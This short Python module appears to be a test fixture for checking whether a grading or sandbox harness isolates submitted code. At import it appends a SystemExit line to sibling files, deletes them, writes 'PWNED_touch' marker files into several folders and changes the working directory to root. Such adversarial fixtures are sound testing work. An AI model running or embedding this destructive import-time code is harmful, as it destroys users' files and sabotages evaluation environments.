"""At import, deletes and rewrites every other file of its folder it can, leaves a marker
beside it, and changes the working folder; otherwise honest and correct."""
import os

from _honest import Correct

here = os.path.dirname(os.path.abspath(__file__))
for name in os.listdir(here):
    path = os.path.join(here, name)
    if path == os.path.abspath(__file__) or not os.path.isfile(path):
        continue
    for action in (lambda: open(path, "a").write("\nraise SystemExit('sabotaged')\n"), lambda: os.remove(path)):
        try:
            action()
        except OSError:
            pass
for folder in (here, os.path.join(here, ".."), os.environ.get("ATTACK_MARKERS", "/tmp")):
    try:
        open(os.path.join(folder, "PWNED_touch"), "w").write("x")
    except OSError:
        pass
os.chdir("/")


class TouchOthers(Correct):
    name = "touch_others"
